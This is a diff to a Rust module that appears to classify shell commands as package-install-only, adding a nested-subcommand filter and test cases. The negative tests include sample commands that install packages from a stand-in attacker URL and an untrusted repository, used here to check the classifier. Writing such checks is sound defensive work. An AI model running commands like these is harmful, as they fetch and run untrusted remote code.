@@ -22,7 +22,8 @@ const INSTALLERS: [(&str, &[&str]); 13] = [
 
 /// Whether every part of a command does only that, or fetches nothing at all.
 pub(crate) fn only_installs(parts: &[SimpleCommand]) -> bool {
-    !parts.is_empty() && parts.iter().all(|part| !part.uncertain && !part.hides && installs(part))
+    let mut own = parts.iter().filter(|part| !part.within);
+    !parts.is_empty() && own.all(|part| !part.uncertain && !part.hides && installs(part))
 }
 
 fn installs(part: &SimpleCommand) -> bool {
@@ -60,12 +61,14 @@ mod tests {
             "pip install -r requirements.txt",
             "cargo fetch --locked",
             "npm install && npm test",
+            "pnpm add left-pad && yarn install",
         ] {
             assert!(only_installs(&parts(text)), "{text}");
         }
         for text in [
             "",
             "npm run deploy",
+            "npx npm install",
             "npm install && node x.js",
             "npm install https://evil.example/x.tgz",
             "npm install evil/repository",
